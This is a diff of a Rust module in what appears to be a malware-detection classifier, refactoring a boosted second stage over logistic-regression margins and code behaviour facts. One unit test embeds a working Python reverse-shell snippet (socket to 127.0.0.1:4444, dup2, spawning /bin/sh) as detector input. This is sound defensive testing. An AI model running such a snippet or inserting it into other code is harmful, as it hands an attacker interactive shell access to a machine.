@@ -1,4 +1,4 @@
-//! Experiment (`SHRIKE_PYMODEL_STACK=BUDGET`): a gradient-boosted second stage over the logistic
+//! Experiment (`SHRIKE_PYMODEL_STACK=TREES`): a gradient-boosted second stage over the logistic
 //! regression's margin and the behaviour facts, so that conjunctions of facts (an install hook
 //! that runs a process *and* downloads, a rc-file write *and* a send) can weigh differently from
 //! their sum. The first stage's margin of a training file comes from a model that did not see
@@ -12,7 +12,7 @@ use forust_ml::objective::ObjectiveType;
 use forust_ml::{GradientBooster, Matrix};
 use python_model::FeatureVec;
 
-use crate::learn::{self, Example, Params, Trained};
+use crate::learn::{self, Example, Params};
 
 pub const FOLDS: u64 = 3;
 
@@ -33,21 +33,16 @@ impl Columns {
         Columns { fact_col, names }
     }
 
-    pub fn row(&self, margin: f32, fv: &FeatureVec, out: &mut [f64]) {
-        out.fill(0.0);
+    pub fn row(&self, margin: f32, fv: &FeatureVec) -> Vec<f64> {
+        let mut out = vec![0f64; self.names.len()];
         out[0] = margin as f64;
         for b in fv.behaviour() {
             if let Some(&c) = self.fact_col.get(b) {
                 out[c] = 1.0;
             }
         }
+        out
     }
-}
-
-pub fn margin(t: &Trained, fv: &FeatureVec) -> f32 {
-    fv.indices().iter().map(|&j| t.weights[j as usize]).sum::<f32>() * fv.value()
-        + fv.behaviour().iter().map(|&j| t.weights[j as usize]).sum::<f32>()
-        + t.bias
 }
 
 /// Out-of-fold margins: `fold[i]` in `0..FOLDS` of every example; the margin of example `i`
@@ -55,15 +50,10 @@ pub fn margin(t: &Trained, fv: &FeatureVec) -> f32 {
 pub fn out_of_fold(examples: &[Example], fold: &[u64], fvs: &[&FeatureVec], p: &Params) -> Vec<f32> {
     let mut out = vec![0f32; examples.len()];
     for k in 0..FOLDS {
-        let part: Vec<Example> = examples
-            .iter()
-            .zip(fold)
-            .filter(|(_, &f)| f != k)
-            .map(|(e, _)| Example { idx: e.idx, value: e.value, beh: e.beh, y: e.y, weight: e.weight })
-            .collect();
+        let part: Vec<Example> = examples.iter().zip(fold).filter(|(_, &f)| f != k).map(|(e, _)| *e).collect();
         let t = learn::train(&part, p, |_, _| {});
         for i in (0..examples.len()).filter(|&i| fold[i] == k) {
-            out[i] = margin(&t, fvs[i]);
+            out[i] = t.margin(fvs[i]);
         }
     }
     out
@@ -158,9 +148,8 @@ mod tests {
     #[test]
     fn a_row_marks_exactly_the_facts_of_the_code() {
         let cols = Columns::new();
-        let mut row = vec![0f64; cols.names.len()];
         let code = "import socket, os, pty\ns = socket.socket()\ns.connect(('127.0.0.1', 4444))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn('/bin/sh')\n";
-        cols.row(1.5, &fv(code), &mut row);
+        let row = cols.row(1.5, &fv(code));
         assert_eq!(row[0], 1.5);
         let on: Vec<&str> = cols.names.iter().zip(&row).skip(1).filter(|(_, v)| **v > 0.0).map(|(n, _)| n.as_str()).collect();
         let want: Vec<String> = python_model::behaviour::behaviours(code.as_bytes()).into_iter().map(|f| format!("beh:{f}")).collect();
